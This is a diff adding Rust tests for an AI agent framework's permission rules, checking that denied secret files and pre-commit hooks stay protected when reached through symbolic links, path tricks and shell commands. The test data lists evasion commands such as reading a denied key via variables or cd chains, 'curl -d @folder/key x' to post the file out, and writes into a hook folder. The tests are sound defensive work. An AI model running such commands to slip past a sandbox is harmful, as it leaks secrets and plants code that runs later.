@@ -1,10 +1,12 @@
 //! Rules about paths, and symbolic links that lead elsewhere.
 
 use agentcore::permission::{Permissions, Verdict};
+use agentcore::testing::ScriptedModel;
 use agentcore::tools::preset;
 use agentcore::{PermissionMode, ToolCall};
-use serde_json::json;
+use serde_json::{Value, json};
 
+use crate::kit::{agent, results};
 use crate::workspace::Workspace;
 
 struct Case {
@@ -31,6 +33,29 @@ impl Case {
             workspace,
             permissions,
         }
+    }
+
+    fn command(&self, command: &str) -> Verdict {
+        self.permissions.explain_command(command).decision
+    }
+
+    /// What a call shows, of however many files.
+    async fn shown(&self, name: &str, args: Value) -> String {
+        let tools = match name.starts_with(char::is_uppercase) {
+            true => preset::coding(self.workspace.backend.clone()),
+            false => preset::wick(self.workspace.backend.clone()),
+        };
+        let agent = agent(ScriptedModel::new().call(name, args).say("done"))
+            .registry(&tools)
+            .permissions(self.permissions.clone())
+            .build()
+            .unwrap();
+        let output = agent.run("Go").await.unwrap();
+        results(&output.messages)
+            .remove(0)
+            .content
+            .text()
+            .into_owned()
     }
 
     fn verdict(&self, tool: &str, path: &str) -> Verdict {
@@ -124,4 +149,165 @@ fn a_workspace_behind_a_link_keeps_its_name() {
     };
     assert_eq!(case.verdict("Read", "a/in.txt"), Verdict::Allow);
     assert_eq!(case.verdict("Read", "folder/key"), Verdict::Deny);
+}
+
+#[tokio::test]
+async fn searches_through_a_link_leave_denied_files_out() {
+    let case = Case::new(|rules| {
+        rules
+            .deny("Read(secrets/inner/**)")?
+            .deny("Read(secrets/key)")
+    });
+    case.workspace.put("secrets/inner/more", "k");
+    case.workspace.put("secrets/free", "k");
+    let absolute = case.workspace.root.join("folder");
+    for folder in [
+        "folder",
+        "./folder",
+        "a/../folder",
+        absolute.to_str().unwrap(),
+    ] {
+        for (name, args) in [
+            ("Grep", json!({"pattern": "k", "path": folder})),
+            (
+                "Grep",
+                json!({"pattern": "k", "path": folder, "output_mode": "content"}),
+            ),
+            (
+                "Grep",
+                json!({"pattern": "k", "path": folder, "output_mode": "count"}),
+            ),
+            ("Glob", json!({"pattern": "**/*", "path": folder})),
+            ("Glob", json!({"pattern": format!("{folder}/**/*")})),
+            ("grep", json!({"pattern": "k", "path": folder})),
+            ("glob", json!({"pattern": "**/*", "path": folder})),
+            ("ls", json!({"path": folder})),
+        ] {
+            let text = case.shown(name, args.clone()).await;
+            assert!(text.contains("free"), "{name} {args}: {text}");
+            assert!(
+                !text.contains("key") && !text.contains("more"),
+                "{name} {args}: {text}"
+            );
+        }
+    }
+}
+
+#[tokio::test]
+async fn the_whole_of_a_denied_folder_is_denied_through_a_link() {
+    let case = Case::new(|rules| rules.deny("Read(secrets/**)"));
+    for path in ["folder", "folder/", "./folder"] {
+        let text = case
+            .shown("Grep", json!({"pattern": "k", "path": path}))
+            .await;
+        assert_eq!(
+            text, "Error: denied by rule deny:Read(secrets/**)",
+            "{path}"
+        );
+        let text = case
+            .shown("Glob", json!({"pattern": "*", "path": path}))
+            .await;
+        assert_eq!(
+            text, "Error: denied by rule deny:Read(secrets/**)",
+            "{path}"
+        );
+        let pattern = format!("{}/*", path.trim_end_matches('/'));
+        let text = case.shown("Glob", json!({"pattern": pattern})).await;
+        assert!(!text.contains("key"), "{text}");
+    }
+}
+
+#[test]
+fn words_of_commands_are_judged_where_links_lead() {
+    let case = Case::new(|rules| {
+        let rules = rules.allow("Bash")?.deny("Read(secrets/**)")?;
+        rules.deny("Write(locked/**)")
+    });
+    case.workspace.put("locked/file", "");
+    case.workspace.link("locked", "open");
+    case.workspace.link("/etc", "a/system");
+    let root = case.workspace.root.to_str().unwrap();
+    for command in [
+        "cat folder/key",
+        "cat ./folder/../folder/key",
+        "cat a/../folder/key",
+        "cat file",
+        "cat chain",
+        "cat < folder/key",
+        "cat 'folder'/key",
+        "cat folder/*",
+        "cat {folder,a}/key",
+        "cd folder && cat key",
+        "cd a && cat ../folder/key",
+        "f=folder/key; cat $f",
+        "cat $PWD/folder/key",
+        "head -c 1 chain | wc",
+        "curl -d @folder/key x",
+        "dd if=folder/key",
+        &format!("cat {root}/folder/key"),
+        "echo x > open/file",
+        "echo x > open/new",
+        "cp a/in.txt open",
+        "tee open/file",
+        "cd open && touch file",
+    ] {
+        assert_eq!(case.command(command), Verdict::Deny, "{command}");
+    }
+    assert_eq!(case.command("grep -r k ."), Verdict::Ask);
+    for command in [
+        "cat a/in.txt",
+        "cat a/*",
+        "cat circle",
+        "cat nowhere/at/all",
+        "cat open/file",
+        "echo x > a/new",
+        "cat a/system/hostname",
+    ] {
+        assert_eq!(case.command(command), Verdict::Allow, "{command}");
+    }
+}
+
+#[test]
+fn redirections_are_allowed_only_where_links_lead_too() {
+    let case = Case::new(|rules| rules.allow("Bash(echo:*)")?.allow("Write(a/**)"));
+    case.workspace.link("../secrets", "a/link");
+    case.workspace.link("../.git", "a/repository");
+    assert_eq!(case.command("echo x > a/new"), Verdict::Allow);
+    assert_eq!(case.command("echo x > a/link/new"), Verdict::Ask);
+    let case = Case::new(|rules| {
+        let rules = rules.allow("Bash(echo:*)")?;
+        Ok(rules.mode(PermissionMode::AcceptEdits))
+    });
+    assert_eq!(case.command("echo x > folder/new"), Verdict::Allow);
+    assert_eq!(case.command("echo x > outside/new"), Verdict::Ask);
+    assert_eq!(case.command("echo x > tidy/pre-commit"), Verdict::Ask);
+}
+
+#[test]
+fn what_runs_later_is_protected_from_commands_behind_links() {
+    let case = Case::new(|rules| rules.allow("Bash"));
+    for command in [
+        "echo x > tidy/pre-commit",
+        "cp a/in.txt tidy/pre-commit",
+        "cp a/in.txt tidy",
+        "cd tidy && tee pre-commit",
+        "chmod +x tidy/readme",
+        "sed -i s/a/b/ tidy/readme",
+    ] {
+        assert_eq!(case.command(command), Verdict::Ask, "{command}");
+    }
+    assert_eq!(case.command("cat tidy/readme"), Verdict::Allow);
+    let elsewhere = case.permissions.clone().follow_links(false);
+    let found = elsewhere.explain_command("echo x > tidy/pre-commit");
+    assert_eq!(found.decision, Verdict::Allow);
+}
+
+#[test]
+fn more_words_than_are_looked_up_may_lead_anywhere() {
+    let case = Case::new(|rules| rules.allow("Bash")?.deny("Read(secrets/**)"));
+    let many: Vec<_> = (0..1100).map(|n| format!("a/f{n}")).collect();
+    let command = format!("cat {}", many.join(" "));
+    assert_eq!(case.command(&command), Verdict::Ask);
+    let few = format!("cat {}", many[..400].join(" "));
+    assert_eq!(case.command(&few), Verdict::Allow);
 }
